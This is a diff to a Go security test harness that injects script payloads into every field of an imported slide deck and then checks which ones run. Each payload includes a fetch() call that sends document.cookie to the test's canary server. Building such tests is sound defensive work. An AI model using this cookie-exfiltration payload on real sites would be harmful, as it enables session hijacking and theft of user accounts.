@@ -45,7 +45,6 @@ func enter(t *testing.T) *arena {
 		script := fmt.Sprintf("self.HIT%[1]d=1;top.postMessage('HIT%[1]d','*');fetch('%[2]s/script/%[1]d?'+document.cookie)", i, a.canary.URL)
 		a.armed = append(a.armed, decktest.Arm(attack, script, fmt.Sprintf("%s/%d", a.canary.URL, i)))
 	}
-	a.use(browse(t, a.s))
 	return a
 }
 
@@ -168,14 +167,14 @@ func (a *arena) imported(t *testing.T) (kept []string) {
 		},
 		"define": func(s string) string {
 			block := func(typ string) map[string]any {
-				return map[string]any{"type": typ, "value": s, "class": s, "language": s, "x": s, "data": [][]any{{s}}, "animation-type": s}
+				return map[string]any{"type": typ, "value": s, "class": s[:min(len(s), 200)], "language": s[:min(len(s), 200)], "x": s[:20], "data": [][]any{{s}}, "animation-type": s[:20]}
 			}
 			var blocks []any
 			for typ := range strings.FieldsSeq("text image video iframe code math table") {
 				blocks = append(blocks, block(typ))
 			}
 			return jsonOf(t, map[string]any{"title": s, "css": s, "slides": []any{map[string]any{
-				"html": s, "markdown": s, "notes": s[:min(len(s), 40)], "class": s, "id": s, "background-image": s, "background-color": s, "background-video": s, "blocks": blocks,
+				"html": s, "notes": s[:min(len(s), 40)], "class": s, "id": s, "background-image": s, "background-color": s, "background-video": s, "blocks": blocks,
 			}}})
 		},
 	} {
